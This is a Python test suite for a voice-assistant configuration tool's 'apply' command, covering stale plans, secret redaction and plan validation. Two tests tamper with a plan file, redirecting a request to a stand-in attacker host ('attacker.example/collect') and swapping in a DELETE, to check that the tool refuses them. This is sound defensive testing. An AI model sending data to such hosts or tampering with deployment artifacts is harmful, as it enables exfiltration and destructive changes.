"""`voiceops apply PLANFILE`: a saved plan is applied exactly or not at all."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from tests.conftest import Workspace
from tests.integration.apply_helpers import (
    CLINIC,
    ENROLLMENT,
    SUPPORT,
    updates,
)
from voiceops.live.httpclient import Client, RequestFailed
from voiceops.reconcile.redaction import SECRET_REF

ROTATED = "rotated-webhook-secret-2"


def save_plan(ws: Workspace, env: dict[str, str] | None = None) -> Path:
    planfile = ws.root / "plan.json"
    result = ws.run("plan", "--out", str(planfile), env=env)
    assert result.exit_code == 0, result.output
    return planfile


def report_line(stdout: str, name: str) -> str:
    return next(line for line in stdout.splitlines() if line.startswith("  ") and name in line)


def test_saved_plan_sends_exactly_the_planned_requests(workspace: Workspace) -> None:
    sb = workspace.sandbox
    planfile = save_plan(workspace)
    planned = {a["name"]: a["request"] for a in json.loads(planfile.read_text())["assistants"]}

    result = workspace.run("apply", str(planfile))  # a plan file needs no confirmation
    assert result.exit_code == 0, result.output
    assert "Apply: 4 applied" in result.stdout

    sent = {(r.method, r.path): r.body for r in updates(sb)}
    assert len(sent) == 4
    for request in planned.values():
        body = sent[(request["method"], request["path"])]
        # Identical apart from the secret, which the plan file only refers to.
        assert _without_refs(request["body"]) == _without_refs(body, like=request["body"])
    # The sandbox's log never holds secret values; the stand-in stored the real one.
    sent_server = sent[("PATCH", f"/assistants/v1/assistants/{CLINIC[1]}")]["assistantServer"]
    assert sent_server["secret"] == "<redacted>"
    stored = workspace.sandbox.stored(*CLINIC)["assistantServer"]["secret"]
    assert stored == workspace.env["CLINIC_INTAKE_ASSISTANTSERVER_SECRET"]
    assert workspace.run("plan", "--detailed-exitcode").exit_code == 0


def _without_refs(body: object, like: object = None) -> object:
    """`body` with every place the plan's body holds a secret reference blanked."""
    like = body if like is None else like
    if isinstance(like, dict):
        if SECRET_REF in like:
            return "<secret>"
        assert isinstance(body, dict)
        return {k: _without_refs(body[k], like[k]) for k in like}
    return body


def test_dashboard_edit_after_planning_makes_that_assistant_stale(workspace: Workspace) -> None:
    sb = workspace.sandbox
    planfile = save_plan(workspace)
    # Someone edits a field git does not even manage: the plan no longer describes the
    # assistant exactly, so it is refused.
    sb.edit(*ENROLLMENT, {"voicemailMessage": "Edited in the dashboard."})
    sb.clear_requests()

    result = workspace.run("apply", str(planfile))
    assert result.exit_code == 1
    line = report_line(result.stdout, "enrollment-assistant")
    assert line.split()[0] == "stale"
    assert "changed since the plan was made" in line
    assert "Apply: 3 applied, 0 unchanged, 1 stale, 0 failed, 0 not converged." in result.stdout
    assert updates(sb, "edmo") == []
    assert {r.vendor for r in updates(sb)} == {"interactly", "invent", "autocalls"}
    assert sb.stored(*ENROLLMENT)["voicemailMessage"] == "Edited in the dashboard."


def test_spec_edit_after_planning_makes_that_assistant_stale(workspace: Workspace) -> None:
    sb = workspace.sandbox
    planfile = save_plan(workspace)
    workspace.edit_spec("clinic-intake", idleTimeout=25)

    result = workspace.run("apply", str(planfile))
    assert result.exit_code == 1
    line = report_line(result.stdout, "clinic-intake")
    assert line.split()[0] == "stale"
    assert "spec changed" in line
    assert updates(sb, "interactly") == []
    assert len(updates(sb)) == 3
    assert sb.stored(*CLINIC)["idleTimeout"] == 30


def test_assistant_removed_from_git_after_planning_is_stale(workspace: Workspace) -> None:
    planfile = save_plan(workspace)
    workspace.spec_file("support-concierge").unlink()
    result = workspace.run("apply", str(planfile))
    assert result.exit_code == 1
    assert "no longer in the repository" in report_line(result.stdout, "support-concierge")
    assert updates(workspace.sandbox, "invent") == []


def test_assistant_deleted_at_the_vendor_after_planning_fails_alone(workspace: Workspace) -> None:
    planfile = save_plan(workspace)
    workspace.sandbox.edit(*SUPPORT, {"deleted": True})
    result = workspace.run("apply", str(planfile))
    assert result.exit_code == 1
    line = report_line(result.stdout, "support-concierge")
    assert line.split()[0] == "failed"
    assert "marks assistant 'asst_support' as deleted" in line
    assert "Apply: 3 applied, 0 unchanged, 0 stale, 1 failed, 0 not converged." in result.stdout


def test_applying_the_same_plan_twice_sends_nothing_the_second_time(
    workspace: Workspace,
) -> None:
    sb = workspace.sandbox
    planfile = save_plan(workspace)
    first = workspace.run("apply", str(planfile))
    assert first.exit_code == 0, first.output
    sb.clear_requests()

    second = workspace.run("apply", str(planfile))
    assert second.exit_code == 0, second.output
    assert updates(sb) == []
    assert "Apply: 0 applied, 4 unchanged, 0 stale, 0 failed, 0 not converged." in second.stdout


def test_secret_references_are_resolved_when_the_plan_is_applied(workspace: Workspace) -> None:
    """The plan file holds the reference: a secret planned to change is sent with the value
    the environment has when the plan is applied."""
    sb = workspace.sandbox
    planned = {"CLINIC_INTAKE_ASSISTANTSERVER_SECRET": "new-secret-when-planned"}
    planfile = save_plan(workspace, env=planned)
    text = planfile.read_text()
    assert "new-secret-when-planned" not in text
    assert "CLINIC_INTAKE_ASSISTANTSERVER_SECRET" in text  # the reference, by name

    result = workspace.run(
        "apply", str(planfile), env={"CLINIC_INTAKE_ASSISTANTSERVER_SECRET": ROTATED}
    )
    assert result.exit_code == 0, result.output
    assert updates(sb, "interactly")[0].body["assistantServer"]["secret"] == "<redacted>"
    assert sb.stored(*CLINIC)["assistantServer"]["secret"] == ROTATED
    assert ROTATED not in result.output


def test_secret_from_the_environment_inside_a_list(workspace: Workspace) -> None:
    """A list item can be `${env:NAME}` on its own; the plan file must refer to it, and
    apply must send the value (not the mask)."""
    sb = workspace.sandbox
    hints = ["Riverside", "${env:CLINIC_HINT}"]
    workspace.edit_spec("clinic-intake", hints=hints)
    env = {"CLINIC_HINT": "hint-value-from-env"}
    planfile = workspace.root / "plan.json"
    planned = workspace.run("plan", "--out", str(planfile), "--target", "clinic-intake", env=env)
    assert planned.exit_code == 0, planned.output
    assert "hint-value-from-env" not in planfile.read_text()

    result = workspace.run("apply", str(planfile), env=env)
    assert result.exit_code == 0, result.output
    # The request log masks the referenced value; the vendor stored it.
    assert updates(sb, "interactly")[0].body["hints"] == ["Riverside", "<redacted>"]
    assert sb.stored(*CLINIC)["hints"] == ["Riverside", "hint-value-from-env"]


def test_target_picks_assistants_from_the_plan_file(workspace: Workspace) -> None:
    planfile = save_plan(workspace)
    result = workspace.run("apply", str(planfile), "--target", "enrollment-assistant")
    assert result.exit_code == 0, result.output
    assert [r.vendor for r in updates(workspace.sandbox)] == ["edmo"]

    unknown = workspace.run("apply", str(planfile), "--target", "no-such-assistant")
    assert unknown.exit_code == 1
    assert "no-such-assistant" in unknown.stderr
    assert len(updates(workspace.sandbox)) == 1


def test_a_file_that_is_not_a_plan_is_refused(workspace: Workspace) -> None:
    planfile = workspace.root / "plan.json"
    planfile.write_text('{"format_version": 99}')
    result = workspace.run("apply", str(planfile))
    assert result.exit_code == 1
    assert "not a voiceops plan file" in result.stderr
    assert "Traceback" not in result.output
    assert updates(workspace.sandbox) == []


def test_a_request_that_is_not_the_assistants_own_update_is_refused(workspace: Workspace) -> None:
    # A plan file travels as a CI artifact: its request must be the update voiceops would
    # send for that assistant, never another method or a URL on another host.
    planfile = save_plan(workspace)
    plan = json.loads(planfile.read_text())
    by_name = {a["name"]: a for a in plan["assistants"]}
    by_name["clinic-intake"]["request"]["path"] = "https://attacker.example/collect"
    by_name["enrollment-assistant"]["request"]["method"] = "DELETE"
    planfile.write_text(json.dumps(plan))

    result = workspace.run("apply", str(planfile))
    assert result.exit_code == 1
    for name in ("clinic-intake", "enrollment-assistant"):
        line = report_line(result.stdout, name)
        assert line.split()[0] == "stale"
        assert "not the update voiceops builds" in line
        assert "plan again" in line
    assert sorted(r.vendor for r in updates(workspace.sandbox)) == ["autocalls", "invent"]
    assert workspace.sandbox.stored(*ENROLLMENT) is not None


def test_the_client_sends_only_paths_under_its_base_url() -> None:
    async def request_elsewhere() -> None:
        client = Client("http://127.0.0.1:9", global_limit=asyncio.Semaphore(1), vendor_limit=1)
        try:
            await client.request("GET", "https://attacker.example/collect")
        finally:
            await client.close()

    with pytest.raises(RequestFailed, match="not a path under"):
        asyncio.run(request_elsewhere())
